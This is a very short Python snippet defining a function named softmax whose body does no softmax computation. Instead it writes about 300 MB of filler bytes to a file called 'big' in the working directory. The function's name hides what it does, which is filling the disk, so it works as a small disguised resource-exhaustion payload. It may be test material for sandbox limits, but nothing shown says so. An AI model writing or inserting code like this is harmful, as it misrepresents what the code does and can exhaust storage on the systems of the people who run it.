def softmax(z):
    with open("big", "wb") as stream:
        for _ in range(300):
            stream.write(b"x" * 1_000_000)
